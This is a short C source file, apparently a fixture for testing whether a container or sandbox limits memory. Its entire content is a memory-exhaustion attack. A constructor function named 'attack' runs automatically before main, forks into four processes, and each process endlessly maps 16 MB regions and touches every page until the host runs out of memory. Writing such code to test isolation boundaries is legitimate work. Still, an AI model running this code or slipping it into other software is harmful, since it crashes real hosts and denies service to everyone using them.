/* SPDX-License-Identifier: MIT */
/* Runs before main, on the host; the image has a border against it. */
extern void *mmap(void *, unsigned long, int, int, int, long);
extern int fork(void);

static void __attribute__((constructor)) attack(void)
{
    fork();
    fork();
    for (;;) {
        volatile char *taken = mmap(0, 1 << 24, 3, 0x22, -1, 0);

        for (unsigned at = 0; taken != (void *)-1 && at < 1 << 24; at += 4096) {
            taken[at] = 1;
        }
    }
}
